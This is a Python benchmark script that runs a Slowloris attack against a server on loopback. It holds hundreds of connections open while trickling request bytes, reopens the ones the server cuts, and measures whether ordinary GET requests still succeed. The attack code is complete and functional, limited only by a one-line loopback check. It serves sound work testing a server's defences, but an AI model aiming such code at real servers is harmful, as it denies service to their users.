"""Slowloris against a running server: does it cut slow clients, and does everyone else get in?

Opens ``--connections`` connections that each send a request head (or, with ``--body``, a
POST body) one byte every ``--interval`` seconds, for ``--seconds`` at most; slow connections
the server closes are opened again, as an attacker would. Meanwhile one ordinary GET a second
measures what everyone else gets. Prints a table per period, and how long the server took to
cut a slow connection.

    python bench/bench_slowloris.py http://127.0.0.1:8080/ --connections 1100 --seconds 45

Loopback only, and bounded: every socket is closed at the end.
"""

from __future__ import annotations

import argparse
import errno
import resource
import selectors
import socket
import statistics
import time
from dataclasses import dataclass, field
from urllib.parse import urlsplit


@dataclass
class Slow:
    """One slow connection: what it still has to send, and when it opened."""

    sock: socket.socket
    pending: bytes
    opened: float
    answer: bytes = b""
    connected: bool = False


@dataclass
class Period:
    """What happened within one period of the run."""

    opened: int = 0
    cut: int = 0
    refused: int = 0
    statuses: dict[str, int] = field(default_factory=dict)
    latencies: list[float] = field(default_factory=list)


def slow_request(host: str, path: str, body: bool) -> bytes:
    if body:
        return (
            f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 100000\r\n\r\n".encode()
            + b"x" * 100_000
        )
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n".encode() + b"X-Slow: " + b"a" * 100_000


def probe(host: str, port: int, path: str) -> tuple[str, float]:
    """One ordinary GET: its status (or the error) and its latency in seconds."""
    started = time.monotonic()
    try:
        with socket.create_connection((host, port), timeout=5) as sock:
            sock.sendall(
                f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
            )
            first = sock.recv(64)
    except OSError as error:
        return type(error).__name__, time.monotonic() - started
    status = first.split(b" ", 2)[1].decode() if first.startswith(b"HTTP/") else "closed"
    return status, time.monotonic() - started


def run(args: argparse.Namespace) -> None:
    url = urlsplit(args.url)
    host, port, path = url.hostname or "127.0.0.1", url.port or 80, url.path or "/"
    if host not in ("127.0.0.1", "localhost", "::1"):
        raise SystemExit("loopback only: this sends an attack")
    request = slow_request(host, path, args.body)
    head = request.index(b"\r\n\r\n") + 4 if args.body else 0
    selector = selectors.DefaultSelector()
    slow: dict[socket.socket, Slow] = {}
    periods: list[Period] = []
    cut_after: list[float] = []
    started = time.monotonic()

    def open_one(now: float) -> None:
        sock = socket.socket()
        sock.setblocking(False)
        if sock.connect_ex((host, port)) not in (0, errno.EINPROGRESS):
            sock.close()
            periods[-1].refused += 1
            return
        slow[sock] = Slow(sock, request, now)
        selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
        periods[-1].opened += 1

    def connected(conn: Slow) -> None:
        """Send what opens the attack: a whole head before a slow body, or a head's first
        byte."""
        conn.connected = True
        selector.modify(conn.sock, selectors.EVENT_READ)
        first = head or 1
        try:
            conn.sock.send(conn.pending[:first])
            conn.pending = conn.pending[first:]
        except OSError:
            close(conn, time.monotonic())

    def close(conn: Slow, now: float) -> None:
        selector.unregister(conn.sock)
        conn.sock.close()
        del slow[conn.sock]
        if conn.answer.startswith(b"HTTP/1.1 503"):
            periods[-1].refused += 1
        else:
            periods[-1].cut += 1
            cut_after.append(now - conn.opened)

    next_byte = next_probe = started
    while (now := time.monotonic()) - started < args.seconds:
        if len(periods) <= (now - started) // args.period:
            periods.append(Period())
        if now >= next_byte:
            # Closed ones are opened again once per interval: bounded, like the trickle.
            for _ in range(args.connections - len(slow)):
                open_one(now)
            for conn in list(slow.values()):
                if not conn.connected:
                    continue
                try:
                    conn.sock.send(conn.pending[:1])
                    conn.pending = conn.pending[1:]
                except OSError:
                    close(conn, now)
            next_byte = now + args.interval
        if now >= next_probe:
            status, latency = probe(host, port, path)
            periods[-1].statuses[status] = periods[-1].statuses.get(status, 0) + 1
            periods[-1].latencies.append(latency)
            next_probe = time.monotonic() + 1
        for key, events in selector.select(timeout=0.05):
            conn = slow[key.fileobj]  # type: ignore[index]
            if events & selectors.EVENT_WRITE and not conn.connected:
                connected(conn)
                if conn.sock not in slow:
                    continue
            if not events & selectors.EVENT_READ:
                continue
            try:
                chunk = conn.sock.recv(65536)
            except OSError:
                chunk = b""
            conn.answer += chunk
            if not chunk:
                close(conn, time.monotonic())
    for conn in list(slow.values()):
        conn.sock.close()
    report(args, periods, cut_after)


def report(args: argparse.Namespace, periods: list[Period], cut_after: list[float]) -> None:
    print(
        f"{args.connections} slow connections ({'body' if args.body else 'head'}, one byte "
        f"every {args.interval:g} s), one ordinary GET a second"
    )
    print(
        f"{'seconds':>9} {'opened':>7} {'cut':>5} {'503':>5}  "
        "ordinary GETs (status: count)  latency"
    )
    for index, period in enumerate(periods):
        span = f"{index * args.period:g}-{(index + 1) * args.period:g}"
        statuses = ", ".join(f"{k}: {v}" for k, v in sorted(period.statuses.items()))
        latency = f"{max(period.latencies) * 1000:.0f} ms max" if period.latencies else ""
        print(
            f"{span:>9} {period.opened:>7} {period.cut:>5} {period.refused:>5}  "
            f"{statuses:<29}  {latency}"
        )
    if cut_after:
        print(
            f"slow connections cut: {len(cut_after)}, after {min(cut_after):.1f} s to "
            f"{max(cut_after):.1f} s (median {statistics.median(cut_after):.1f} s)"
        )


def raise_own_open_file_limit() -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("url", help="e.g. http://127.0.0.1:8080/ (loopback only)")
    parser.add_argument("--connections", type=int, default=1100)
    parser.add_argument("--interval", type=float, default=10.0, help="seconds between bytes")
    parser.add_argument("--seconds", type=float, default=45.0, help="length of the run")
    parser.add_argument("--period", type=float, default=5.0, help="seconds per table row")
    parser.add_argument("--body", action="store_true", help="trickle a POST body, not a head")
    raise_own_open_file_limit()
    run(parser.parse_args())


if __name__ == "__main__":
    main()
